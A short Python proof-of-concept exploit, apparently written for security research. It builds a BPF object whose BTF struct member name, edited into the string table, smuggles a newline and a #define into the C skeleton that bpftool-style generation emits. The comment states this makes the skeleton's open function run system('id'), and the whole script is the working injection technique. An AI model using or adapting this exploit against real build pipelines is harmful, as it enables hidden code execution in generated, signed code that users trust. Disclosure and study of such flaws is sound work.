#!/usr/bin/env python3
# A hostile object for attack.sh: BTF struct member names reach the
# skeleton's C through btf_dump (an anonymous struct in .bss is declared
# inline), and gen-loader's check_names() checks type names only.  The
# member's name, edited in the object's string table (same length), is
# "a[0];\n#define skel_alloc(sz) ...\nint b": a #define in the signed C that
# makes NAME__open() run system("id").
#
# Usage: attack_member.py src SRC.c    (the source, placeholder names)
#        attack_member.py edit OBJ.o   (the placeholder replaced in place)
import sys

NAME = 'a[0];\n#define skel_alloc(sz) (system("id"), calloc(1, (sz)))\nint b'
PH = 'Q' * len(NAME)

if sys.argv[1] == 'src':
    open(sys.argv[2], 'w').write('''// SPDX-License-Identifier: GPL-2.0
#include "vmlinux.h"
#include <bpf/bpf_helpers.h>

struct { int %s; } holder;

SEC("raw_tp/sys_enter")
int tp(void *ctx)
{
	holder.%s++;
	return 0;
}

char LICENSE[] SEC("license") = "GPL";
''' % (PH, PH))
else:
    d = open(sys.argv[2], 'rb').read()
    assert d.count(PH.encode()) >= 1
    open(sys.argv[2], 'wb').write(d.replace(PH.encode(), NAME.encode()))
